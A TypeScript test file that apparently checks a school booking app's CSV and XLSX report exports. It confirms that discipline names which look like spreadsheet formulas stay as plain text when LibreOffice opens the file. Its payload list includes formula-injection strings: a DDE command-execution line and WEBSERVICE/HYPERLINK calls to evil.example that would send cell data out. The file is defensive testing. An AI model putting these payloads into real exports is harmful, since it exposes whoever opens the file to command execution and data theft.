/** Rules R13.15: LibreOffice opens what the reports export, and finds no formula in it. */
import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { expect, it } from "vitest";
import { addReservation } from "#tests/support/bookings/reservation-factory.ts";
import { createBundledApp } from "#tests/support/bundled-app.ts";
import { addNamed } from "#tests/support/school/school-rows.ts";
import { sharedFolder } from "#tests/support/temp-folder.ts";

const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=HYPERLINK("http://evil.example";"abrir")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  ";=1+1",
  "x\r\n=1+1",
  "'=1+1",
  " =1+1",
  "\uff1d1+1",
  '=WEBSERVICE("http://evil.example/"&A1)',
];
const SEMICOLON_UTF8 = "Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1";

const folder = sharedFolder();
const isInstalled = !spawnSync("soffice", ["--version"], { stdio: "ignore" }).error;

/** A file as LibreOffice reads it: its own flat XML, in which a formula is an attribute of its cell. */
function open(name: string, bytes: Uint8Array, filter?: string): string {
  writeFileSync(path.join(folder, name), bytes);
  spawnSync(
    "soffice",
    [
      `-env:UserInstallation=file://${folder}/profile`,
      "--headless",
      ...(filter ? [`--infilter=${filter}`] : []),
      "--convert-to",
      "fods",
      "--outdir",
      folder,
      path.join(folder, name),
    ],
    { stdio: "ignore", timeout: 120_000 },
  );
  return readFileSync(path.join(folder, name.replace(/\.\w+$/, ".fods")), "utf8");
}

it.skipIf(!isInstalled)("detects a formula if there is one", () => {
  expect(open("formula.csv", Buffer.from("a;=1+1\r\n"), SEMICOLON_UTF8)).toContain("table:formula=");
});

it.skipIf(!isInstalled)(
  "names that look like formulas are text, in CSV and in XLSX",
  async () => {
    const app = await createBundledApp();
    FORMULAS.forEach((name, index) => {
      const disciplineId = addNamed(app, "disciplines", `Disciplina ${index}`);
      app.db.sqlite.prepare("UPDATE disciplines SET name = ? WHERE id = ?").run(name, disciplineId);
      const date = `2026-03-${String(10 + index).padStart(2, "0")}`;
      addReservation(app, { disciplineId, date, status: "approved" });
    });
    const range = "?de=2026-03-01&ate=2026-03-31";
    for (const [name, filter] of [
      ["csv", SEMICOLON_UTF8],
      ["xlsx", undefined],
    ] as const) {
      const answer = await app.as("pedro").fetch(`/admin/relatorios/${name}${range}`);
      expect(answer.status).toBe(200);
      const sheet = open(`corpus.${name}`, new Uint8Array(await answer.arrayBuffer()), filter);
      expect(sheet.match(/table:formula=/g)).toBeNull();
      expect(sheet.split("HYPERLINK").length - 1).toBe(1);
      expect(sheet.match(/<table:table-row[^>]*>/g)?.length).toBeGreaterThan(FORMULAS.length);
    }
  },
  300_000,
);
